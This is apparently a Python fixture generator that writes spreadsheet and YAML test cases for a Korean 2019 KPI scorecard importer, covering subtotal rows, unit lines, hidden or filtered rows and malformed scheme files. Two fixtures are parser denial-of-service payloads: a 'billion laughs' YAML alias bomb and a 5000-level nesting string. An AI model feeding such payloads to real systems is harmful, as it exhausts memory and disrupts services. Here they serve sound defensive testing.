def subtotal_rows_xlsx_valid(dest: Path) -> None:
    sheets = _base_sheets()
    k = sheets["kpis"]
    blank = [""] * 11
    sub = lambda w: ["소계", *blank[1:10], w]  # noqa: E731 - a row builder
    sheets["kpis"] = [k[0], k[1], k[2], sub(100), k[3], sub(100), k[4], sub(100), k[5],
                      ["합  계", *blank[1:10], 400]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def unit_line_and_notes_valid(dest: Path) -> None:
    sheets = _base_sheets()
    r = sheets["kpi_results"]
    sheets["kpi_results"] = [["2019년 성과지표 실적"], ["", "", "", "", "", "(단위: 건, %)"], *r, [],
                             ["※ 실적은 2019. 12. 31. 기준"], ["주) 검증: 증빙 확인 여부"]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def units_row_xlsx_valid(dest: Path) -> None:
    sheets = _base_sheets()
    k, r = sheets["kpis"], sheets["kpi_results"]
    sheets["kpis"] = [k[0], ["", "", "", "", "", "", "", "(%)", "(%)", "", "%"], *k[1:]]
    r[0][3:5] = ["목표", "실적"]
    sheets["kpi_results"] = [r[0], ["단위", "", "", "점", "점", ""], *r[1:]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


def _units_row_csv(t: Tables) -> None:
    t["kpis"].insert(1, ["", "", "", "", "", "", "", "%", "%", "", "%"])
    t["kpi_results"].insert(1, ["(단위)", "", "", "건, %", "건, %", ""])


def _units_row_at_bottom(t: Tables) -> None:
    t["kpi_results"].append(["", "", "", "%", "%", ""])  # under the data: read as data


@case
def units_row_below_title_with_total_valid(dest: Path) -> None:
    sheets = _base_sheets()
    r = sheets["kpi_results"]
    sheets["kpi_results"] = [["2019년 성과지표 실적"], r[0], ["", "", "", "(억원)", "(억원)", ""], *r[1:],
                             ["합계", "", "", 658, 664.8, ""]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


_reg("units_row_csv_valid", folder_case(_units_row_csv))
_reg("units_row_at_bottom", folder_case(_units_row_at_bottom))


def _hide_row(wb, ws) -> None:
    ws["kpis"].set_row(3, None, None, {"hidden": True})  # K03 (row 4) hidden


@case
def hidden_rows(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets(), extra=_hide_row))


def _filter_rows(wb, ws) -> None:
    r = ws["kpi_results"]
    r.autofilter(0, 0, 10, 5)
    r.filter_column(2, "x == H1")  # 반기 = H1 shown: the H2 rows are hidden by the filter
    for i in (2, 4, 6, 8, 10):
        r.set_row(i, None, None, {"hidden": True})


@case
def filtered_rows(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets(), extra=_filter_rows))


def _hide_column(wb, ws) -> None:
    ws["departments"].set_column(3, 3, None, None, {"hidden": True})  # name_en hidden


@case
def hidden_column_valid(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets(), extra=_hide_column))


# ---- scheme files


def _scheme_text() -> str:
    return SCHEME_2019.read_text(encoding="utf-8")


def _scheme_dump(mutate: Callable[[dict], None]) -> str:
    d = yaml.safe_load(_scheme_text())
    mutate(d)
    return yaml.safe_dump(d, allow_unicode=True, sort_keys=False)


def scheme_case(text: Callable[[], str | bytes]) -> Callable[[Path], None]:
    def build(dest: Path) -> None:
        t = text()
        dest.with_suffix(".yaml").write_bytes(t.encode("utf-8") if isinstance(t, str) else t)
    return build


_reg("scheme_typo", scheme_case(lambda: _scheme_text().replace("    formula: ratio", "    formla: ratio")))


def _points_105(d: dict) -> None:
    d["evaluations"]["institutional"]["components"]["evaluator"] = 15


_reg("scheme_points_not_100", scheme_case(lambda: _scheme_dump(_points_105)))
_reg("scheme_wrong_type", scheme_case(lambda: _scheme_text().replace("    cap: 1.0 ", "    cap: high ")))

BILLION_LAUGHS = "\n".join(
    ['lol0: &lol0 "lol"']
    + [f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 10)}]" for i in range(1, 10)]
    + ["scheme_id: *lol9"]
) + "\n"
_reg("scheme_billion_laughs", scheme_case(lambda: BILLION_LAUGHS))
_reg("scheme_deep_nesting", scheme_case(lambda: "scheme_id: " + "[" * 5000 + "]" * 5000 + "\n"))
_reg("scheme_not_yaml", scheme_case(lambda: _scheme_text().replace("year: 2019\n", "year: [2019\n", 1)))
_reg("scheme_not_a_mapping", scheme_case(lambda: "- seoul-bsc-2019\n- 2019\n"))
_reg("scheme_empty", scheme_case(lambda: ""))
_reg("scheme_cp949", scheme_case(lambda: _scheme_text().encode("cp949", errors="replace")))


# --------------------------------------------------------------------------- build


def build(root: Path = HERE) -> Path:
    """(Re)write ``root/cases/`` with every case of :data:`CASES`; returns the folder."""
    out = root / "cases"
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    for name, builder in CASES.items():
        builder(out / name)
    return out


if __name__ == "__main__":
    target = build(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
    print(f"{len(CASES)} cases written to {target}")  # noqa: T201 - a script, not the library
